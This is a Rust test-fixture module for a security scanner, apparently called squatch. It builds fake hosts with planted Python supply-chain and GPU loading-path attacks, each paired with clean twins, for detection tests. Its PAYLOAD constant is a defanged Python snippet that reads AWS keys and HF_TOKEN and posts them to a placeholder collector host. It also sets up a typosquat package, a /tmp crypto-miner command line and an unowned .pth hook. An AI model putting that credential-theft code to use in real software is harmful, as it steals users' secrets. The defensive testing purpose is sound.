//! Fixtures for the pack tests (tests/packs.rs) and `squatch hunt`'s tests:
//! each pack query gets a host with its attack planted and a clean twin that
//! differs only where the attack does.
//!
//! A [`Scene`] is a [`FakeHost`] plus rows for osquery built-in tables that a
//! query joins (`processes`, `process_open_sockets`, ...); the `users` table
//! is filled from the fake host's `/etc/passwd`, as `squatch hunt` does.
//!
//! Fixtures are defanged: `.invalid` endpoints, documentation addresses
//! (192.0.2.0/24, 203.0.113.0/24), fake `EXAMPLE` secrets, and code that stops
//! at its first line if it were ever run.

use std::cell::RefCell;
use std::path::PathBuf;

use super::FakeHost;

/// A row for an osquery built-in table: (table, [(column, value)]).
pub type BuiltinRow = (String, Vec<(String, String)>);

/// A fake host and rows for osquery built-in tables.
pub struct Scene {
    /// The filesystem side.
    pub fh: FakeHost,
    rows: RefCell<Vec<BuiltinRow>>,
    /// A stub NVML built for this scene (`use_nvml_stub`), and the directory
    /// that holds it.
    nvml: RefCell<Option<(tempfile::TempDir, PathBuf)>>,
    /// The state directory the scene's tables keep their fingerprint key in
    /// (never the machine's /var/lib/squatch).
    state: tempfile::TempDir,
}

impl Default for Scene {
    fn default() -> Self {
        Self::new()
    }
}

impl Scene {
    /// An empty scene with one user, alice (uid 1000).
    pub fn new() -> Self {
        let fh = FakeHost::new();
        fh.passwd(&[("alice", 1000, "/home/alice")]);
        Scene {
            fh,
            rows: RefCell::new(Vec::new()),
            nvml: RefCell::new(None),
            state: tempfile::tempdir().expect("tempdir for the state directory"),
        }
    }

    /// Serves the NVML tables from the test's stub `libnvidia-ml.so.1`
    /// (tests/data/gpu/nvml_stub.c: two GPUs, a training job on GPU 0 and
    /// pid 31337 on GPU 1).
    pub fn use_nvml_stub(&self) {
        let dir = tempfile::tempdir().expect("tempdir for the NVML stub");
        let lib = super::gpu::build_nvml_stub(dir.path(), false);
        *self.nvml.borrow_mut() = Some((dir, lib));
    }

    /// The settings the scene's tables run with.
    pub fn settings(&self) -> squatch::settings::Settings {
        squatch::settings::Settings {
            nvml_lib: self.nvml.borrow().as_ref().map(|(_, lib)| lib.clone()),
            state_dir: self.state.path().to_path_buf(),
            ..Default::default()
        }
    }

    /// Adds a row to an osquery built-in table.
    pub fn row(&self, table: &str, values: &[(&str, &str)]) {
        self.rows.borrow_mut().push((
            table.to_string(),
            values
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        ));
    }

    /// The built-in rows, in the order added.
    pub fn rows(&self) -> Vec<BuiltinRow> {
        self.rows.borrow().clone()
    }
}

/// The credential-stealing module of the seed attack.
pub const PAYLOAD: &str = r#"raise SystemExit("squatch test fixture: read as text, never run")
import os, json, urllib.request
creds = {"id": os.environ.get("AWS_ACCESS_KEY_ID"), "secret": os.environ.get("AWS_SECRET_ACCESS_KEY"), "hf": os.environ.get("HF_TOKEN")}
urllib.request.urlopen("https://collector.invalid/u", data=json.dumps(creds).encode())
"#;

/// A benign module of the same size class.
pub const BENIGN: &str = "def add(a, b):\n    return a + b\n";

/// alice's venv; returns its site directory.
pub fn venv(s: &Scene) -> PathBuf {
    s.fh.venv("/home/alice/ml/.venv", "3.12", false)
}

/// Benign popular neighbours present on both twins.
pub fn neighbours(s: &Scene, site: &std::path::Path) {
    s.fh.dist(site, "torch", "2.5.0")
        .file("torch/__init__.py", b"__version__ = '2.5.0'\n")
        .installer("pip")
        .write();
    s.fh.dist(site, "requests", "2.32.3")
        .file("requests/__init__.py", b"__title__ = 'requests'\n")
        .installer("pip")
        .write();
}

/// `torch-utilites` (a typosquat of torch utilities) with harmless code.
pub fn typosquat_installed(s: &Scene) {
    let site = venv(s);
    neighbours(s, &site);
    s.fh.dist(&site, "torch-utilites", "0.1.0")
        .file("torch_utilites/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .requested()
        .write();
}

/// Twin: the same package under a name of its own.
pub fn typosquat_clean(s: &Scene) {
    let site = venv(s);
    neighbours(s, &site);
    s.fh.dist(&site, "alice-ml-helpers", "0.1.0")
        .file("alice_ml_helpers/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .requested()
        .write();
}

/// A package under its own name whose module steals credentials; the same
/// file copied into a second environment (one finding, two places).
pub fn install_payload(s: &Scene) {
    for env in ["/home/alice/ml/.venv", "/home/alice/other/.venv"] {
        let site = s.fh.venv(env, "3.12", false);
        s.fh.dist(&site, "fast-loader", "1.0.0")
            .file("fast_loader/__init__.py", PAYLOAD.as_bytes())
            .installer("pip")
            .write();
    }
}

/// Twin: the same package with benign code.
pub fn install_payload_clean(s: &Scene) {
    for env in ["/home/alice/ml/.venv", "/home/alice/other/.venv"] {
        let site = s.fh.venv(env, "3.12", false);
        s.fh.dist(&site, "fast-loader", "1.0.0")
            .file("fast_loader/__init__.py", BENIGN.as_bytes())
            .installer("pip")
            .write();
    }
}

/// An executable `.pth` that no RECORD lists.
pub fn pth_unowned(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "helper", "1.0.0")
        .file("helper/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .write();
    s.fh.pth(&site, "helper_init.pth", "import helper\n");
}

/// Twin: the same `.pth`, listed in its package's RECORD.
pub fn pth_owned(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "helper", "1.0.0")
        .file("helper/__init__.py", BENIGN.as_bytes())
        .file("helper_init.pth", b"import helper\n")
        .installer("pip")
        .write();
}

/// tqdm, installed cleanly, then one of its files rewritten.
pub fn record_tampered(s: &Scene) {
    let site = venv(s);
    let d =
        s.fh.dist(&site, "tqdm", "4.66.0")
            .file("tqdm/__init__.py", b"__all__ = []\n")
            .installer("pip")
            .write();
    s.fh.modify(&d.file("tqdm/__init__.py"), b"__all__ = ['x']\n");
}

/// Twin: tqdm untouched.
pub fn record_intact(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", b"__all__ = []\n")
        .installer("pip")
        .write();
}

/// A package installed from a git URL (PEP 610 direct_url.json).
pub fn direct_url_install(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "helper", "1.0.0")
        .file("helper/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .direct_url(r#"{"url": "https://git.example.invalid/helper.git", "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123456789abcdef01234567"}}"#)
        .write();
}

/// Twin: the same package from the index.
pub fn index_install(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "helper", "1.0.0")
        .file("helper/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .write();
}

/// A package with no RECORD: its files cannot be verified.
pub fn record_missing(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "helper", "1.0.0")
        .file("helper/__init__.py", BENIGN.as_bytes())
        .installer("pip")
        .no_record()
        .write();
}

/// `pip install` talking to an address outside the allow-list.
pub fn pip_outbound(s: &Scene) {
    pip_process(s, "203.0.113.7");
}

/// Twin: the same install through the allow-listed proxy.
pub fn pip_via_proxy(s: &Scene) {
    pip_process(s, "10.20.30.40");
}

fn pip_process(s: &Scene, remote: &str) {
    s.row(
        "processes",
        &[
            ("pid", "4242"),
            ("name", "pip"),
            ("path", "/home/alice/ml/.venv/bin/python3.12"),
            (
                "cmdline",
                "/home/alice/ml/.venv/bin/python -m pip install torch-utilites",
            ),
            ("cwd", "/home/alice/ml"),
            ("uid", "1000"),
        ],
    );
    s.row(
        "process_open_sockets",
        &[
            ("pid", "4242"),
            ("fd", "5"),
            ("family", "2"),
            ("protocol", "6"),
            ("local_address", "192.0.2.10"),
            ("remote_address", remote),
            ("local_port", "50432"),
            ("remote_port", "443"),
            ("state", "ESTABLISHED"),
        ],
    );
}

// ------------------------------------------------------------------- GPU

/// A full, legitimate NVIDIA driver layout (Debian + CUDA repository +
/// container toolkit 1.17.8) with the seed's loading-path attack on top:
/// an ld.so.preload entry, a modprobe install line running a loader, a
/// Vulkan implicit layer from /tmp.
pub fn gpu_loading_path_attack(s: &Scene) {
    super::gpu::plant_legit_driver(&s.fh, 2048);
    super::gpu::plant_seed_attack(&s.fh);
}

/// Twin: the same layout and file names with legitimate contents.
pub fn gpu_loading_path_clean(s: &Scene) {
    super::gpu::plant_legit_driver(&s.fh, 2048);
    super::gpu::plant_seed_benign_twin(&s.fh);
}

/// A driver library changed after dpkg installed it.
pub fn gpu_driver_drifted(s: &Scene) {
    gpu_loading_path_clean(s);
    let lib = s.fh.real(std::path::Path::new(
        "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.535.183.01",
    ));
    let mut b = std::fs::read(&lib).unwrap();
    b[100] ^= 1;
    std::fs::write(&lib, b).unwrap();
}

/// A container toolkit older than the CVE-2025-23266 fix.
pub fn gpu_toolkit_old(s: &Scene) {
    gpu_loading_path_clean(s);
    super::gpu::set_toolkit_version(&s.fh, "1.17.4-1");
}

/// The stub's GPU 1 process (pid 31337) is a miner run from /tmp, GPU 0's
/// (pid 4242) a torchrun job from the system interpreter; with osquery's
/// `processes` rows for both.
pub fn gpu_miner(s: &Scene) {
    gpu_processes(
        s,
        "ultralytics_run",
        "/tmp/ultralytics_runner",
        "/tmp/ultralytics_runner -o pool:3333",
        true,
    );
}

/// Twin: GPU 1's process is an allow-listed training job.
pub fn gpu_training_only(s: &Scene) {
    gpu_processes(
        s,
        "python3",
        "/usr/bin/python3.11",
        "python3 train_yolo.py",
        true,
    );
}

/// [`gpu_miner`] seen by squatch alone (no osquery rows).
pub fn gpu_miner_host_only(s: &Scene) {
    gpu_processes(s, "ultralytics_run", "/tmp/ultralytics_runner", "", false);
}

/// [`gpu_training_only`] seen by squatch alone.
pub fn gpu_training_host_only(s: &Scene) {
    gpu_processes(s, "python3", "/usr/bin/python3.11", "", false);
}

fn gpu_processes(s: &Scene, name: &str, exe: &str, cmdline: &str, osquery_rows: bool) {
    s.use_nvml_stub();
    s.fh.mkdir("/tmp");
    s.fh.chmod("/tmp", 0o1777);
    super::gpu::plant_process(&s.fh, 4242, "python3", "/usr/bin/python3.11", 1000);
    super::gpu::plant_process(&s.fh, 31337, name, exe, 1000);
    if !osquery_rows {
        return;
    }
    for (pid, name, path, cmdline) in [
        (
            "4242",
            "python3",
            "/usr/bin/python3.11",
            "torchrun train.py",
        ),
        ("31337", name, exe, cmdline),
    ] {
        s.row(
            "processes",
            &[
                ("pid", pid),
                ("name", name),
                ("path", path),
                ("cmdline", cmdline),
                ("uid", "1000"),
                ("parent", "1"),
            ],
        );
    }
}

/// The stub NVML and its training job only (no built-in rows): the GPU
/// inventory has rows.
pub fn gpu_present(s: &Scene) {
    s.use_nvml_stub();
}

// --------------------------------------------------------- dependency files

/// The seed's requirements.txt (torch-utilites, unhashed) and a pip.conf
/// mixing a private index with PyPI.
pub fn deps_attack(s: &Scene) {
    super::deps::plant_seed_attack(&s.fh);
}

/// Twin: pinned, hashed, right names, one private index.
pub fn deps_clean(s: &Scene) {
    super::deps::plant_benign_twin(&s.fh);
}

// ------------------------------------------------------------------ secrets

/// The seed's exposure: `python -m pip install torch-utilites` (pid 4242)
/// with an AWS key pair and HF_TOKEN in its environment, and a 0644
/// ~alice/.aws/credentials. Values are fake, assembled at run time.
pub fn secrets_attack(s: &Scene) {
    super::secrets::plant_seed_attack(&s.fh);
}

/// Twin: the same processes and files with look-alikes only (AWS_REGION,
/// HF_HOME, the AWS documentation's example key, a 0600 file).
pub fn secrets_clean(s: &Scene) {
    super::secrets::plant_seed_benign(&s.fh);
}

// ------------------------------------------------------------------ drill

/// A `squatch drill` canary as `plant` lays it out in alice's venv (its
/// summary carries the SQUATCH-DRILL marker).
pub fn drill_canary(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "pytorch-utilz", "0.0.1")
        .file("pytorch_utilz/__init__.py", BENIGN.as_bytes())
        .field(
            "Summary",
            "SQUATCH-DRILL SQUATCH-DRILL-FIXTURE: harmless security-drill canary planted by squatch drill",
        )
        .installer("pip")
        .requested()
        .write();
}

/// Twin: the same package shape under another name, with an ordinary summary.
pub fn drill_canary_clean(s: &Scene) {
    let site = venv(s);
    s.fh.dist(&site, "alice-ml-helpers", "0.0.1")
        .file("alice_ml_helpers/__init__.py", BENIGN.as_bytes())
        .field("Summary", "helpers for alice's experiments")
        .installer("pip")
        .requested()
        .write();
}
